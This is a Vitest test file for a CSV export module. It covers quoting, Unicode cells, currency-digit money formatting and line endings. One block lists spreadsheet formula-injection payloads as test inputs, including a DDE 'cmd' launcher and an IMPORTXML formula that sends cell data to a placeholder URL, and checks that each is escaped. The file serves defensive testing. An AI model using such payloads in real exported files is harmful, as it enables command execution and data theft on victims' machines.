import { describe, expect, it } from 'vitest';
import { decimalCell, moneyCell, toCsv, type Cell } from './csv';

const one = (value: Cell) => toCsv([[value]]).replace('\ufeff', '').replace(/\r\n$/, '');

describe('cells', () => {
	it.each<[Cell, string]>([
		['Latte', 'Latte'],
		['Café Salam', 'Café Salam'],
		['قهوة', 'قهوة'],
		['a,b', '"a,b"'],
		['a;b', '"a;b"'],
		['say "hi"', '"say ""hi"""'],
		['two\nlines', '"two\nlines"'],
		[' led', '" led"'],
		['', ''],
		[null, ''],
		[undefined, ''],
		[12, '12'],
		[-12, '-12'],
		[0, '0']
	])('%j', (value, want) => expect(one(value)).toBe(want));
});

describe('no text becomes a formula', () => {
	it.each([
		"=cmd|'/C calc'!A0",
		'=HYPERLINK("http://x","click")',
		'=1+1',
		'+1+1',
		'-1+1',
		'-2+3+cmd|x',
		'@SUM(1+1)*cmd',
		'\t=1+1',
		'\r=1+1',
		'=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
		'+44 20 7946 0958'
	])('%j', (payload) => {
		const written = one(payload);
		expect(written.startsWith(`"'`)).toBe(true);
		// Read back as RFC 4180 says, the cell begins with the apostrophe.
		expect(written.slice(1, -1).replaceAll('""', '"')).toBe(`'${payload}`);
	});
});

it('money is written by the digits of its currency', () => {
	expect(one(moneyCell(2850, 'MAD'))).toBe('28.50');
	expect(one(moneyCell(-5, 'USD'))).toBe('-0.05');
	expect(one(moneyCell(1200, 'JPY'))).toBe('1200');
	expect(one(moneyCell(1500, 'TND'))).toBe('1.500');
	expect(one(moneyCell(null, 'MAD'))).toBe('');
	expect(one(decimalCell(1250, 2))).toBe('12.50');
});

it('begins with a byte order mark and ends its rows as the standard does', () => {
	expect(toCsv([['a', 1], ['b', 2]])).toBe('\ufeffa,1\r\nb,2\r\n');
});
